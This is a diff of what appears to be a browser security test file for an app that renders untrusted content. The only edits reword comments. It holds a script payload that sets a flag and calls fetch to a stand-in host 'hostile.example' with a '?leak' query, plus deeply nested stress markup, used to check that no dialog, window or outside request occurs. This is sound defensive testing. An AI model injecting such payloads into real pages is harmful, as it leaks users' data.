@@ -7,7 +7,7 @@ import { answers, ask, QUESTION } from './support/chat.ts';
 import { addByPath, createLibrary, libraryDone } from './support/library.ts';
 import { expect, goTo, openWindow, test } from './support/test.ts';
 
-/** Sets a mark when it runs, and calls a host that must not hear of it. */
+/** Sets a flag when it runs, and contacts a host that must not be contacted. */
 const RUN = `globalThis.ranHostile=1;fetch('http://hostile.example/?leak')`;
 
 const MARKUP = `
@@ -45,7 +45,7 @@ ${'> '.repeat(300)}deep ${'['.repeat(2000)} ${'*'.repeat(2000)} ${'- '.repeat(20
 The end of the hostile page.
 `;
 
-/** What must not happen in any window: a dialog, another window, or a request to anyone but the app. */
+/** Forbidden in any window: a dialog, another window, or a request to anything but the app. */
 function watch(context: BrowserContext, origin: string): string[] {
   const happened: string[] = [];
   context.on('dialog', (dialog) => {
